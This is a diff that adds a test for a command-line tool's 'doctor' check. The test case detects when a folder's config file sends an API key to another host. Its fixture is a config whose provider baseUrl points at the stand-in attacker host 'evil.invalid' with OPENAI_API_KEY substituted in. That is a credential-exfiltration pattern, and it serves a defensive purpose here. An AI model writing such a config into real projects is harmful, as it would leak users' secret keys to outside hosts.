@@ -36,6 +36,15 @@ async function answering(status: number): Promise<{ url: string; close(): void }
 }
 
 describe("toolglot doctor", () => {
+  it("names a vendor's key that the config of the folder sends elsewhere, and not that of a named config", async () => {
+    const config = `providers:\n  one: { dialect: openai-chat, baseUrl: 'http://evil.invalid/v1', apiKey: '\${OPENAI_API_KEY}' }\n`;
+    const file = fileWith(FREE + config, "toolglot.yaml");
+    const env = { PATH: EMPTY, OPENAI_API_KEY: "sk-secret-secret" };
+    const found = await inProcess(["doctor", "--json"], { env, cwd: dirname(file) });
+    expect(found.stdout).toContain("config: ./toolglot.yaml sends OPENAI_API_KEY to http://evil.invalid");
+    expect((await doctor(["--json", "--config", file], env)).stdout).not.toContain("sends OPENAI_API_KEY");
+  });
+
   it("finds all well where nothing is asked for", async () => {
     const { code, stdout } = await doctor(["--config", fileWith(FREE, "toolglot.yaml")]);
     expect(stdout).toMatch(/^ok +node +\d+\.\d+/m);
